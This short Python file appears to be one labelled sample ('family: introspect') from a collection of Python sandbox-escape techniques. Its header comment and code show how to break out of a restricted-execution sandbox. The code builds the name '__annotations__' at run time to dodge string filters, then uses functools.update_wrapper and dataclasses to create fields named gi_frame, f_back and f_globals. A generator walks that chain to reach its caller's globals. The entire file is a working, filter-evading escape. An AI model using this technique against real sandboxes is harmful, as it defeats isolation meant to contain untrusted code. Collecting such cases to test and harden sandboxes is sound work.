# family: introspect
# Escape: update_wrapper's default names copy __annotations__ onto a class; the source is an attribute holding
# a SimpleNamespace whose keyword is built at run time. dataclasses then makes fields gi_frame/f_back/f_globals,
# and getattr(x, f.name) for f in dataclasses.fields walks a running generator to its caller's globals.
import dataclasses
import functools
import types


class Path:
    pass


def tool() -> list:
    edge = "_" * 2
    steps = {"gi_frame": object, "f_back": object, "f_globals": object}
    box = types.SimpleNamespace(src=types.SimpleNamespace(**{edge + "annotations" + edge: steps}))
    functools.update_wrapper(Path, box.src, updated=())
    dataclasses.dataclass(init=False, repr=False, eq=False)(Path)

    def walk():
        value = gen
        for f in dataclasses.fields(Path):
            value = getattr(value, f.name)
        yield value
    gen = walk()
    return sorted(next(gen))
